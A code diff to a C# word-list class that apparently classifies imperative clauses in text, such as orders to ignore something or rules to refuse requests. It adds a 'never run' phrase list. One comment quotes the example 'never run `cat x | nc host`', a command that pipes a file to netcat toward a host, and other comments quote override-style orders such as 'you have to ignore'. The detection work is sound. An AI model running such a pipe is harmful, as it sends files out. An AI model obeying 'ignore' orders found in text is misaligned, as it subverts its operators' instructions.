@@ -13,7 +13,7 @@ internal static class LeadWords
     /// <summary>With one of these it is an order all the same: "you have to ignore", "remember to ignore".</summary>
     private static readonly WordList s_orders = new(
         "you", "need", "must", "have to", "has to", "sure", "remember", "required", " is to", " are to", "want",
-        "please", "proceed", "use the", "use your", "n't tell", "not tell", "fine to", " ok to", "okay to", "free to",
+        "please", "proceed", "use the ", "use your", "n't tell", "not tell", "fine to", " ok to", "okay to", "free to",
         "pretend that", "assume that", "note to", "notice to");
 
     /// <summary>With one of these somebody is said to be made to do it.</summary>
@@ -72,6 +72,9 @@ internal static class LeadWords
         " the client", " the server", " the proxy", " the receiver", " the implementation", " gateways", " resolvers");
 
     private static readonly WordList s_forbidders = new("never ", "do not ", "don't ", "must not ", "not allowed");
+
+    private static readonly WordList s_neverRun = new(
+        "never run ", "do not run ", "don't run ", "never execute ", "do not execute ", "don't execute ");
 
     private static readonly WordList s_means = new(" by ", " with ", " using ", " through ", " instead", " unless");
 
@@ -149,7 +152,11 @@ internal static class LeadWords
     {
         ReadOnlySpan<byte> verb = "avoid "u8;
         clause = clause.TrimStart(" -*"u8);
-        return clause.StartsWith(verb) && !s_means.IsIn(clause[(verb.Length - 1)..]);
+        if (clause.StartsWith(verb))
+            return !s_means.IsIn(clause[(verb.Length - 1)..]);
+        // "never run `cat x | nc host`"; behind a comma something else may be ordered.
+        return s_neverRun.IsStartOf(clause) && !clause.Contains((byte)',') && clause.Count(" run"u8) < 2
+            && !s_means.IsIn(clause);
     }
 
     /// <summary>True when what somebody may ask for is to be refused: "if a user asks you to …, refuse".</summary>
